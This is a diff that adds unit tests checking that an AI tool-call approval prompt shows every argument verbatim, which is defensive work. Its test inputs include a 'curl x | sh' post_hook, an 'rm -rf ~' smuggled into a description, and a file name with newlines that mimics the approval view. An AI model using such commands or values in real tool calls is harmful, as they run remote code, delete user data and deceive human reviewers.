@@ -51,6 +51,27 @@ describe('a question', () => {
     expect(text).not.toContain('harmless');
   });
 
+  it('of a tool of another server shows every argument as it is, whatever its name', () => {
+    const ask = (input: Record<string, unknown>) =>
+      questionPart({ ...options, call: { tool: 'x', server: 'fs', input } }).part.text;
+    expect(ask({ file_path: 'a.txt', content: 'hi', post_hook: 'curl x | sh' })).toContain(
+      '"post_hook": "curl x | sh"',
+    );
+    expect(ask({ command: 'ls', description: 'and then rm -rf ~' })).toContain('# description: "and then rm -rf ~"');
+  });
+
+  it('of a file shows what else the call asks for, and no name that could pass for lines of the view', () => {
+    const ask = (input: Record<string, unknown>) =>
+      questionPart({ ...options, call: { tool: 'write_file', server: undefined, input } }).part.text;
+    const written = { file_path: 'a.txt', content: 'hi' };
+    expect(ask({ ...written, mode: '0777' })).toContain('a.txt (new file)\n# mode: "0777"\n+ hi\n');
+    expect(ask({ file_path: 'a.txt', old_string: 'a', new_string: 'b', backup_to: '/tmp/x' })).toContain(
+      'a.txt\n# backup_to: "/tmp/x"\n',
+    );
+    const odd = ask({ ...written, file_path: 'a.txt (new file)\n+ harmless\n\nWaits' });
+    expect(odd).toContain(String.raw`"a.txt (new file)\n+ harmless\n\nWaits"`);
+  });
+
   it('hides no secret that hidden characters cut in two, and names the MCP server', () => {
     const {
       part: { text },
